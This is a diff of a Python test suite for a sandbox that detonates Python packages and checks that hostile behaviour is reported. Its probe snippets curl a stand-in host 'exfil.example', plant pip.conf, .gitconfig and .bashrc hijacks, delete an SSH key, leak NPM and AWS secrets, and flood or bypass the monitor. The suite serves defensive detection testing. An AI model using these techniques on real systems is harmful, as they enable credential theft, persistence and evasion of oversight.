@@ -1,14 +1,14 @@
-"""A package can't do unseen what the kernel witness is there to see: in disguise, by flooding it, or as pip."""
+"""A package can't do unseen what the kernel witness is there to see: in disguise, by flooding it,
+or as pip."""
 
 from pathlib import Path
-from typing import Any
 
 import pytest
 from conftest import Triage
-from hostile import PROBES, add_probe, findings, targets, tight_jail
+from hostile import PROBES, add_probe, findings, targets
 from standins import Index
 
-import snakehook
+from jail.watch.events import MAX_EVENTS
 
 
 def test_a_program_that_a_thread_starts_is_seen(triage: Triage, index: Index) -> None:
@@ -16,13 +16,16 @@ def test_a_program_that_a_thread_starts_is_seen(triage: Triage, index: Index) ->
     source = """
 import threading
 if (pid := os.fork()) == 0:
-    threading.Thread(target=os.execv, args=("/bin/sh", ["sh", "-c", "curl http://exfil.example/; exit 0"])).start()
+    words = ["sh", "-c", "curl http://exfil.example/; exit 0"]
+    threading.Thread(target=os.execv, args=("/bin/sh", words)).start()
     time.sleep(60)
 os.waitpid(pid, 0)
 """
     add_probe(index, source)
     _, report, _ = triage("probe", "--mode", "import")
-    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report["findings"]
+    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report[
+        "findings"
+    ]
 
 
 def test_a_command_with_a_mebibyte_of_arguments_is_seen(triage: Triage, index: Index) -> None:
@@ -34,7 +37,9 @@ os.waitpid(pid, 0)
 """
     add_probe(index, source)
     _, report, _ = triage("probe", "--mode", "import")
-    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report["findings"]
+    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report[
+        "findings"
+    ]
 
 
 @pytest.mark.parametrize(
@@ -66,13 +71,14 @@ def test_a_second_address_of_one_system_call_is_seen(triage: Triage, index: Inde
 class iovec(ctypes.Structure):
     _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
 class msghdr(ctypes.Structure):
-    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)),
-                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32),
+                ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
+                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                 ("flags", ctypes.c_int), ("count", ctypes.c_uint32), ("pad", ctypes.c_uint32)]
-one = iovec(b"x", 1)
+vector = iovec(b"x", 1)
 def message(host):
     address = struct.pack("=H", 2) + struct.pack(">H", 53) + socket.inet_aton(host) + bytes(8)
-    return msghdr(address, 16, ctypes.pointer(one), 1, None, 0, 0, 0, 0)
+    return msghdr(address, 16, ctypes.pointer(vector), 1, None, 0, 0, 0, 0)
 both = (msghdr * 2)(message("127.0.0.1"), message("192.0.2.78"))
 with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
     print(libc.sendmmsg(udp.fileno(), both, 2, 0), ctypes.sizeof(msghdr))
@@ -85,9 +91,9 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
 def test_who_keeps_the_resolver_waiting_is_seen(triage: Triage, index: Index) -> None:
     source = """
 question = b"id\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7exfil-1\\0\\0\\1\\0\\1"
-with socket.create_connection(("127.0.0.1", 53)) as one:
+with socket.create_connection(("127.0.0.1", 53)) as sock:
     time.sleep(1.5)
-    one.sendall(len(question).to_bytes(2, "big") + question)
+    sock.sendall(len(question).to_bytes(2, "big") + question)
 """
     add_probe(index, source)
     _, report, _ = triage("probe", "--mode", "import")
@@ -95,7 +101,12 @@ with socket.create_connection(("127.0.0.1", 53)) as one:
 
 
 def test_a_requirement_that_leads_pip_elsewhere_is_seen(triage: Triage, index: Index) -> None:
-    index.add_wheel("probe", "1.0", {"probe.py": ""}, requires=["stage-two @ https://exfil.example/stage_two-1.0.zip"])
+    index.add_wheel(
+        "probe",
+        "1.0",
+        {"probe.py": ""},
+        requires=["stage-two @ https://exfil.example/stage_two-1.0.zip"],
+    )
     code, report, _ = triage("probe")
     assert (code, report["outcome"]) == (1, "failed"), report["reason"]
     assert "exfil.example" in targets(report, ("dns",))
@@ -103,7 +114,8 @@ def test_a_requirement_that_leads_pip_elsewhere_is_seen(triage: Triage, index: I
 
 @pytest.mark.skipif(not Path("/usr/bin/git").exists(), reason="pip needs git to be led to it")
 def test_what_git_starts_for_a_requirement_is_not_pip_s_own(triage: Triage, index: Index) -> None:
-    """Its command is the package's: a build can write a .gitconfig before pip comes to the requirements."""
+    """Its command is the package's: a build can write a .gitconfig before pip comes to the
+    requirements."""
     backend = """
 open("/home/dev/.gitconfig", "w").write("[core]\\nsshCommand = curl http://exfil.example/ #\\n")
 """
@@ -125,7 +137,9 @@ os.remove("/tmp/pip-x/../../home/dev/mark")
 """
     index.add_backend_sdist("probe", "1.0", backend, {"probe.py": ""})
     _, report, _ = triage("probe")
-    assert ("/home/dev/mark", "deleted") in {(one["path"], one["change"]) for one in report["files"]}
+    assert ("/home/dev/mark", "deleted") in {
+        (file["path"], file["change"]) for file in report["files"]
+    }
 
 
 def test_deleting_by_a_folder_s_descriptor_is_seen(triage: Triage, index: Index) -> None:
@@ -137,46 +151,28 @@ os.unlink("/home/dev/.ssh/id_rsa")
 """
     add_probe(index, source)
     _, report, _ = triage("probe", "--mode", "import")
-    assert any(one["path"] == "/home/dev/.ssh/id_rsa" and one["change"] == "deleted" for one in report["files"])
-    assert any("pip-evidence" in one["path"] for one in report["files"]), report["files"]
+    assert any(
+        file["path"] == "/home/dev/.ssh/id_rsa" and file["change"] == "deleted"
+        for file in report["files"]
+    )
+    assert any("pip-evidence" in file["path"] for file in report["files"]), report["files"]
 
 
-@pytest.mark.parametrize(
-    "last_words",
-    [[], [{"kind": "exec", "at": 0}], [{"kind": "end", "outcome": "ok"}, {"kind": "output", "stream": "outcome"}], [7]],
-    ids=["silence", "half an event", "nonsense after the end", "a number"],
-)
-def test_when_the_warden_dies_of_a_package_that_is_a_finding(last_words: list[Any], tmp_path: Path) -> None:
-    """Whatever made it die: what was not seen must not look like a fault of ours and nothing more."""
-    request = snakehook.TriageRequest("x", "1.0", "install")
-    report = snakehook.Report("r", "running", request, "")
-    variables = {"HOME": str(tmp_path), "STATE_DIR": str(tmp_path), "PIP_CACHE_DIR": str(tmp_path)}
-    settings = snakehook.load_settings(variables, service=False)
-    sandbox = snakehook.Sandbox("", None, tmp_path, "", "http://127.0.0.1:9/simple", False, False)
-    run = snakehook.Detonation(settings, sandbox, report)
-    run.events = lambda orders: iter(last_words)  # type: ignore[method-assign]
-    snakehook.known_hosts[sandbox.index_url] = []
-    phase = run.phase(tmp_path, "install", None, ["pip"])
-    assert (phase.outcome, report.outcome) == ("error", "error")
-    assert [one["severity"] for one in report.findings] == ["medium"]
-    assert report.findings[0]["rule"] == "evidence.tamper"
-    assert report.coverage["notes"]
-
-
-# --- floods: the rare and grave survives the common ------------------------------------------------------------------
+# One more than there is room for, of each kind of event.
+MANY = MAX_EVENTS + 50
 
 FLOODS = {
     "connections to this machine hide none to another": (
         """
-for port in range(1, 130):
-    with socket.socket() as one: one.connect_ex(("127.0.0.1", port))
-with socket.socket() as one: one.connect_ex(("192.0.2.80", 443))
+for port in range(1, MANY):
+    with socket.socket() as sock: sock.connect_ex(("127.0.0.1", port))
+with socket.socket() as sock: sock.connect_ex(("192.0.2.80", 443))
 """,
         ("network.attempt", "192.0.2.80:443"),
     ),
     "programs that are not there hide none that is": (
         """
-for number in range(130):
+for number in range(MANY):
     try: os.execv(f"/nowhere/{number}", [str(number)])
     except OSError: pass
 os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "curl http://exfil.example/"])
@@ -185,10 +181,11 @@ os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "curl http://exfil.example/"])
     ),
     "questions for one name hide none for another": (
         """
-for number in range(130):
-    with socket.socket(type=socket.SOCK_DGRAM) as one:
-        one.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4same\\7example\\0\\0\\1\\0\\1", ("127.0.0.1", 53))
-        one.recv(100)
+for number in range(MANY):
+    with socket.socket(type=socket.SOCK_DGRAM) as sock:
+        question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4same\\7example\\0\\0\\1\\0\\1"
+        sock.sendto(question, ("127.0.0.1", 53))
+        sock.recv(100)
 try: socket.getaddrinfo("other.example", 80)
 except OSError: pass
 """,
@@ -196,14 +193,14 @@ except OSError: pass
     ),
     "files hide none that lasts": (
         """
-for number in range(130): open(f"/home/dev/.a{number:04}", "w").close()
+for number in range(MANY): open(f"/home/dev/.a{number:04}", "w").close()
 open("/home/dev/.bashrc", "w").write("kept")
 """,
         ("persistence.write", "/home/dev/.bashrc"),
     ),
     "deleted files hide none that lasted": (
         """
-for number in range(130):
+for number in range(MANY):
     open(f"/tmp/a{number}", "w").close()
     os.unlink(f"/tmp/a{number}")
 open("/home/dev/.bashrc", "w").write("kept")
@@ -213,8 +210,8 @@ os.unlink("/home/dev/.bashrc")
     ),
     "packets hide no secret in a command": (
         """
-with socket.socket(type=socket.SOCK_DGRAM) as one:
-    for number in range(5000): one.sendto(bytes(4000), ("127.0.0.1", 9))
+with socket.socket(type=socket.SOCK_DGRAM) as sock:
+    for number in range(2 * MANY): sock.sendto(bytes(4000), ("127.0.0.1", 9))
 if os.fork() == 0: os.execv("/bin/true", ["true", os.environ["NPM_TOKEN"]])
 os.wait()
 """,
@@ -223,7 +220,7 @@ os.wait()
     "generated code hides none that was decoded": (
         """
 import base64
-for number in range(600): exec(f"x = {number}")
+for number in range(MANY): exec(f"x = {number}")
 def decode(): exec(base64.b64decode(b"aGlkZGVuID0gMQ=="))
 decode()
 """,
@@ -233,22 +230,28 @@ decode()
 
 
 @pytest.mark.parametrize("what", FLOODS)
-def test_no_flood_of_the_common_hides_the_rare(triage: Triage, index: Index, what: str, tmp_path: Path) -> None:
+def test_no_flood_of_the_common_hides_the_rare(triage: Triage, index: Index, what: str) -> None:
     source, (rule, words) = FLOODS[what]
-    add_probe(index, source)
-    _, report, _ = triage("probe", "--mode", "import", JAIL_DIR=tight_jail(tmp_path))
+    add_probe(index, source.replace("MANY", str(MANY)))
+    _, report, _ = triage("probe", "--mode", "import")
     assert report["outcome"] == "ok", (report["reason"], report["phases"][-1]["stderr"]["text"])
-    found = [one for one in report["findings"] if one["rule"] == rule and words in one["title"]]
-    assert found and {one["severity"] for one in found} == {"high"}, report["findings"][:20]
+    found = [
+        finding
+        for finding in report["findings"]
+        if finding["rule"] == rule and words in finding["title"]
+    ]
+    assert found and {finding["severity"] for finding in found} == {"high"}, report["findings"][:20]
     if "same" not in source:  # nothing was left out
         assert findings(report, "limit.hit"), report["findings"][:20]
         assert report["coverage"]["dropped_events"]
 
 
-# --- programs in disguise --------------------------------------------------------------------------------------------
-
 PROGRAMS = {
-    "the first program itself": ('os.execv("/bin/sh", ["sh", "-c", "exit 0 # took over"])', "# took over", "medium"),
+    "the first program itself": (
+        'os.execv("/bin/sh", ["sh", "-c", "exit 0 # took over"])',
+        "# took over",
+        "medium",
+    ),
     "a name that is not its own": (
         'os.spawnv(os.P_WAIT, "/usr/bin/base64", ["gcc", "--version"])',
         "/usr/bin/base64 as gcc",
@@ -301,8 +304,15 @@ def test_a_program_is_seen_for_what_it_is(triage: Triage, index: Index, how: str
     source, words, severity = PROGRAMS[how]
     add_probe(index, source)
     _, report, _ = triage("probe", "--mode", "import")
-    found = [one for one in report["findings"] if one["rule"] == "process.spawn" and words in one["title"]]
-    assert [one["severity"] for one in found] == [severity], (report["findings"], report["phases"][-1]["stderr"])
+    found = [
+        finding
+        for finding in report["findings"]
+        if finding["rule"] == "process.spawn" and words in finding["title"]
+    ]
+    assert [finding["severity"] for finding in found] == [severity], (
+        report["findings"],
+        report["phases"][-1]["stderr"],
+    )
     hidden = [title for title in findings(report, "witness.hidden") if words in title]
     assert bool(hidden) == ("bare" in how)  # by any other way Python's own witness has seen it, too
 
@@ -311,40 +321,46 @@ def test_threads_act_in_the_name_of_their_process(triage: Triage, index: Index) 
     source = """
 import threading
 def act(number):
-    with socket.socket() as one: one.connect_ex((f"192.0.2.{number}", 443))
+    with socket.socket() as sock: sock.connect_ex((f"192.0.2.{number}", 443))
 threads = [threading.Thread(target=act, args=(number,)) for number in range(1, 9)]
-for one in threads: one.start()
-for one in threads: one.join()
+for thread in threads: thread.start()
+for thread in threads: thread.join()
 """
     add_probe(index, source)
     _, report, _ = triage("probe", "--mode", "import")
     assert targets(report) == {f"192.0.2.{number}:443" for number in range(1, 9)}
-    assert all(one["witness"] == ["kernel", "python"] for one in report["network"]), report["network"]
+    assert all(attempt["witness"] == ["kernel", "python"] for attempt in report["network"]), report[
+        "network"
+    ]
     assert not findings(report, "witness.hidden") and not findings(report, "evidence.tamper")
-    assert len([one for one in report["processes"] if one["phase"] == "import"]) == 2  # threads are none
+    assert (
+        len([process for process in report["processes"] if process["phase"] == "import"]) == 2
+    )  # threads are none
 
 
 def test_each_event_names_the_trigger_that_brought_it_about(triage: Triage, index: Index) -> None:
-    act = "import subprocess; subprocess.run(['true', __name__]); open('/home/dev/.bash_' + __name__, 'w').close()\n"
+    act = "import subprocess; subprocess.run(['true', __name__])\n"
+    act += "open('/home/dev/.bash_' + __name__, 'w').close()\n"
     index.add_wheel("several", "1.0", {f"module_{n}.py": act for n in range(3)})
     _, report, _ = triage("several", "--mode", "import")
     for name in ("module_0", "module_1", "module_2"):
         for items in (report["findings"], report["files"], report["processes"]):
-            mine = [one for one in items if name in str(one)]
-            assert mine and {one["trigger"] for one in mine} == {name}, items
-        pids = [one["pid"] for one in report["processes"] if one["trigger"] == name]
+            mine = [item for item in items if name in str(item)]
+            assert mine and {item["trigger"] for item in mine} == {name}, items
+        pids = [process["pid"] for process in report["processes"] if process["trigger"] == name]
         assert len(pids) == 3, report["processes"]  # the launcher, the Python, the command
 
 
-# --- the package's doing, though pip or the hook could be made to look otherwise ------------------------
-
-
-def test_a_build_that_sets_up_the_pip_after_it_is_not_taken_for_pip(triage: Triage, index: Index) -> None:
+def test_a_build_that_sets_up_the_pip_after_it_is_not_taken_for_pip(
+    triage: Triage, index: Index
+) -> None:
     source = """
 def get_requires_for_build_wheel(config_settings=None):
     os.makedirs("/home/dev/.config/pip", exist_ok=True)
-    with open("/home/dev/.config/pip/pip.conf", "w") as file: file.write("[global]\\npython = /home/dev/gcc\\n")
-    with open("/home/dev/gcc", "w") as file: file.write("#!/bin/sh\\ncurl http://exfil.example/\\nexit 0\\n")
+    with open("/home/dev/.config/pip/pip.conf", "w") as file:
+        file.write("[global]\\npython = /home/dev/gcc\\n")
+    with open("/home/dev/gcc", "w") as file:
+        file.write("#!/bin/sh\\ncurl http://exfil.example/\\nexit 0\\n")
     os.chmod("/home/dev/gcc", 0o755)
     return ["helper"]
 """
@@ -353,11 +369,13 @@ def get_requires_for_build_wheel(config_settings=None):
     _, report, _ = triage("planner")
     assert report["outcome"] == "ok", report["reason"]  # the plan did not work
     assert any("pip.conf" in title for title in findings(report, "persistence.write"))
-    assert not any("curl" in " ".join(one["argv"]) for one in report["processes"])
+    assert not any("curl" in " ".join(process["argv"]) for process in report["processes"])
 
 
 def test_what_git_does_for_a_requirement_is_told(triage: Triage, index: Index) -> None:
-    index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["inner @ git+https://exfil.example/inner"])
+    index.add_wheel(
+        "outer", "1.0", {"outer.py": ""}, requires=["inner @ git+https://exfil.example/inner"]
+    )
     _, report, _ = triage("outer", RUN_TIMEOUT_SEC=20)
     assert any("git" in title for title in findings(report, "process.spawn")), report["findings"]
 
@@ -366,15 +384,27 @@ def test_a_host_that_pip_is_sent_to_is_told(triage: Triage, index: Index) -> Non
     link = "inner @ https://exfil.example/inner-1.0-py3-none-any.whl"
     index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=[link])
     _, report, _ = triage("outer", RUN_TIMEOUT_SEC=20)
-    assert any("exfil.example" in title for title in findings(report, "network.attempt")), report["findings"]
+    assert any("exfil.example" in title for title in findings(report, "network.attempt")), report[
+        "findings"
+    ]
 
 
-def test_a_build_s_program_with_a_compiler_s_name_is_no_compiler(triage: Triage, index: Index) -> None:
-    prelude = "import shutil, subprocess\nshutil.copy('/bin/true', '/tmp/gcc')\nsubprocess.run(['/tmp/gcc', 'steal'])\n"
+def test_a_build_s_program_with_a_compiler_s_name_is_no_compiler(
+    triage: Triage, index: Index
+) -> None:
+    prelude = """
+import shutil, subprocess
+shutil.copy('/bin/true', '/tmp/gcc')
+subprocess.run(['/tmp/gcc', 'steal'])
+"""
     index.add_backend_sdist("compiling", "1.0", prelude, {"compiling.py": ""})
     _, report, _ = triage("compiling")
-    spawned = [one for one in report["findings"] if one["rule"] == "process.spawn" and "steal" in one["title"]]
-    assert [one["severity"] for one in spawned] == ["medium"]
+    spawned = [
+        finding
+        for finding in report["findings"]
+        if finding["rule"] == "process.spawn" and "steal" in finding["title"]
+    ]
+    assert [finding["severity"] for finding in spawned] == ["medium"]
 
 
 UNSEEN = {
@@ -382,7 +412,8 @@ UNSEEN = {
         """
 libc.sendto.argtypes = None
 address = struct.pack("=H", 0) + struct.pack(">H", 53) + socket.inet_aton("192.0.2.9") + bytes(8)
-with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp: libc.sendto(udp.fileno(), b"stolen", 6, 0, address, 16)
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+    libc.sendto(udp.fileno(), b"stolen", 6, 0, address, 16)
 """,
         "network.attempt",
         "192.0.2.9:53",
@@ -431,16 +462,24 @@ def test_what_is_done_by_an_odd_way_is_told_all_the_same(
     assert any(words in title for title in findings(report, rule)), report["findings"]
 
 
-def test_a_module_named_like_one_of_the_library_does_not_stand_for_it(triage: Triage, index: Index) -> None:
+def test_a_module_named_like_one_of_the_library_does_not_stand_for_it(
+    triage: Triage, index: Index
+) -> None:
     deaf = "raise SystemExit('this is not the library')\n"
     source = "import base64\nexec(base64.b64decode('cHJpbnQoImRlY29kZWQiKQ=='))\n"
-    index.add_wheel("probe", "1.0", {"probe.py": source, "json.py": deaf, "enum.py": deaf, "typing.py": deaf})
+    index.add_wheel(
+        "probe", "1.0", {"probe.py": source, "json.py": deaf, "enum.py": deaf, "typing.py": deaf}
+    )
     _, report, _ = triage("probe", "--mode", "execute_module", "--module-name", "probe")
-    assert (report["outcome"], report["phases"][-1]["stdout"]["text"]) == ("ok", "decoded\n"), report["phases"][-1]
+    assert (report["outcome"], report["phases"][-1]["stdout"]["text"]) == ("ok", "decoded\n"), (
+        report["phases"][-1]
+    )
     assert findings(report, "code.dynamic")
 
 
-def test_the_hook_is_made_of_the_library_whatever_the_path_says(triage: Triage, index: Index) -> None:
+def test_the_hook_is_made_of_the_library_whatever_the_path_says(
+    triage: Triage, index: Index
+) -> None:
     source = """
 import subprocess
 os.mkdir("/tmp/path")
@@ -455,7 +494,9 @@ subprocess.run([sys.executable, "-c", code], env={"PYTHONPATH": "/tmp/path", "HO
 
 
 def test_a_sitecustomize_that_is_installed_is_told(triage: Triage, index: Index) -> None:
-    index.add_wheel("probe", "1.0", {"probe.py": "", "sitecustomize.py": "print('at every start')\n"})
+    index.add_wheel(
+        "probe", "1.0", {"probe.py": "", "sitecustomize.py": "print('at every start')\n"}
+    )
     _, report, _ = triage("probe", "--mode", "import")
     assert report["phases"][-1]["stdout"]["text"] == "at every start\n"
     assert any("sitecustomize.py" in title for title in findings(report, "pth.code"))
@@ -464,13 +505,16 @@ def test_a_sitecustomize_that_is_installed_is_told(triage: Triage, index: Index)
 def test_a_decoy_s_value_does_not_get_to_the_index(triage: Triage, index: Index) -> None:
     prelude = """
 import os, socket
-with socket.create_connection(("127.0.0.1", 3141)) as one:
-    os.write(one.fileno(), b"GET /simple/x" + os.environ["AWS_SECRET_ACCESS_KEY"].encode() + b"/ HTTP/1.1\\r\\n\\r\\n")
-    one.recv(100)
+with socket.create_connection(("127.0.0.1", 3141)) as sock:
+    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
+    os.write(sock.fileno(), b"GET /simple/x" + secret + b"/ HTTP/1.1\\r\\n\\r\\n")
+    sock.recv(100)
 """
     index.add_backend_sdist("telling", "1.0", prelude, {"telling.py": ""})
     _, report, _ = triage("telling")
-    assert any("AWS_SECRET_ACCESS_KEY" in title for title in findings(report, "secret.read")), report["findings"]
+    assert any("AWS_SECRET_ACCESS_KEY" in title for title in findings(report, "secret.read")), (
+        report["findings"]
+    )
     assert not [path for _, path in index.requests if path.startswith("/simple/x")]
 
 
@@ -486,5 +530,7 @@ if os.fork() == 0:
 """
     add_probe(index, source)
     _, report, _ = triage("probe", "--mode", "import")
-    assert findings(report, "limit.hit") == ["left 1 processes at work, which were ended with the phase"]
+    assert findings(report, "limit.hit") == [
+        "left 1 processes at work, which were ended with the phase"
+    ]
     assert any("waiting" in note for note in report["coverage"]["notes"])
